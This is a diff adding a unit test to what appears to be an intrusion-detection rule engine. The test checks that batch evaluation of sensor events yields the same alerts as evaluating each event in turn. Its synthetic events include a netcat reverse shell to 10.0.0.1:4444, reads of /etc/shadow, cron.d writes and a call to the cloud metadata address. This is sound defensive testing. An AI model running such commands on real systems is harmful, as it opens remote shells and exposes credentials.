@@ -199,3 +199,24 @@ def test_a_rule_that_raises_is_no_match_and_the_others_still_run():
                    owner_uid=0, owner_gid=0)  # a path the sensor could not give: startswith raises
     alerts = det.evaluate(Enriched(ev, None, None, None))
     assert [a.rule_id for a in alerts] == ["t.name"]
+
+
+def test_a_batch_is_judged_as_its_events_one_by_one():
+    """evaluate_batch (the pipeline's way: conditions grouped by kind, state in event order) raises
+    the same alerts, folded the same way, as evaluate() on each event in turn."""
+    from tests.unit import detect_events as de
+
+    events = []
+    for k in range(6):
+        events += [de.open_en(f"/etc/cron.d/job{k % 2}", flags=0o1101, comm=b"sh"),
+                   de.exec_en("/usr/bin/nc", ["nc", "-e", "/bin/sh", "10.0.0.1", "4444"]),
+                   de.open_en("/var/lib/app/data.log", flags=0o2101),
+                   de.connect_en("169.254.169.254", 80),
+                   de.open_en("/etc/shadow", comm=b"cat"),
+                   de.exec_en("/bin/ls", ["ls", "-l"], container=None)]
+    one, batch = build(None)[0], build(None)[0]
+    want = [(i, [(a.rule_id, a.count) for a in alerts]) for i, en in enumerate(events) if (alerts := one.evaluate(en))]
+    got = [(i, [(a.rule_id, a.count) for a in alerts]) for i, alerts in batch.evaluate_batch(events)]
+    assert want and got == want
+    assert one.evaluations == batch.evaluations
+    assert [(a.rule_id, a.count) for a in one.flush(force=True)] == [(a.rule_id, a.count) for a in batch.flush(force=True)]
